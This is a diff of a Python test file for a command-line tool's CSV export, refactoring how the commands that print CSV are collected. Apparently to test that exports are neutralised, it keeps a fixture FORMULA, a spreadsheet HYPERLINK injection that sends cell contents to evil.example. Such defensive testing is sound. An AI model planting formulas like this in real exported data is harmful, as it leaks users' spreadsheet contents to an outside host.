@@ -15,14 +15,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-import typer
 from rich.console import Console
 from tests.conftest import write
 
 from relance.bootstrap import Store
 from relance.interfaces.cli import output
+from relance.interfaces.cli.commands import all_commands
 from relance.interfaces.cli.machine import csv_cell, neutralised
-from relance.interfaces.cli.main import app, run
+from relance.interfaces.cli.main import run
 from relance.interfaces.cli.tables import show_table
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -73,19 +73,19 @@ def hostile(store: Store, tmp_path: Path) -> str:
     return db
 
 
-def csv_commands(group: Any, prefix: tuple[str, ...] = ()) -> set[str]:
+def csv_commands(commands: dict[str, Any], prefix: tuple[str, ...] = ()) -> set[str]:
     """Every command of the CLI that can print CSV (a --csv flag or a --format option)."""
     found = set()
-    for name, command in group.commands.items():
+    for name, command in commands.items():
         if hasattr(command, "commands"):  # a group of commands, such as `import`
-            found |= csv_commands(command, (*prefix, name))
+            found |= csv_commands(command.commands, (*prefix, name))
         elif any({"--csv", "--format"} & set(p.opts) for p in command.params):
             found.add(" ".join((*prefix, name)))
     return found
 
 
 def test_every_csv_listing_is_checked() -> None:
-    assert csv_commands(typer.main.get_group(app)) == set(LISTINGS)
+    assert csv_commands(all_commands()) == set(LISTINGS)
 
 
 @pytest.mark.parametrize("listing", sorted(LISTINGS))
